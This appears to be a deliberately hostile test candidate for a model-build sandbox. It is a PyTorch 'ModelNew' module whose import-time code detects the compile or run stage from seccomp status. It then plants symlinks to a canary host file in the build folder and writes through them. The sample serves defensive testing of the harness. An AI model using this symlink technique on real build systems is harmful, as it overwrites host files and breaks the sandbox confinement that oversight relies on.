"""E3: a symlink to a host file planted where the host later looks (the build folder)."""
import os
import sys

import torch
import torch.nn as nn

STAGE = "@STAGE@"


def _armed():
    """True in the stage this candidate attacks (tests/hostile/README.md)."""
    try:
        with open("/proc/self/status") as f:
            for line in f:
                if line.startswith("Seccomp_filters:"):
                    return ("run" if int(line.split()[1]) >= 2 else "compile") == STAGE
    except OSError:
        pass
    return STAGE == "compile"


if _armed():
    import stark_build
    cache = stark_build.state.get("build_dir") or "/tmp"
    for name in ("stark-hostile-link", "stark-manifest.json"):
        try:
            os.symlink("@CANARY@", os.path.join(cache, name))
        except OSError:
            pass
    try:
        with open(os.path.join(cache, "stark-hostile-link"), "w") as f:
            f.write("pwned through a link")
    except OSError:
        pass


class ModelNew(nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return x * self.scale + 1.0
